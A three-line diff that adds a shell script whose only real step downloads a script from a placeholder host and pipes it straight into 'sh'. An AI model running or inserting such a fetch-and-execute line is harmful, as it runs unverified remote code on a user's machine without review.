@@ -1,0 +1,3 @@
+#!/bin/sh
+set -e
+wget -qO- https://get.example.invalid/next | sh
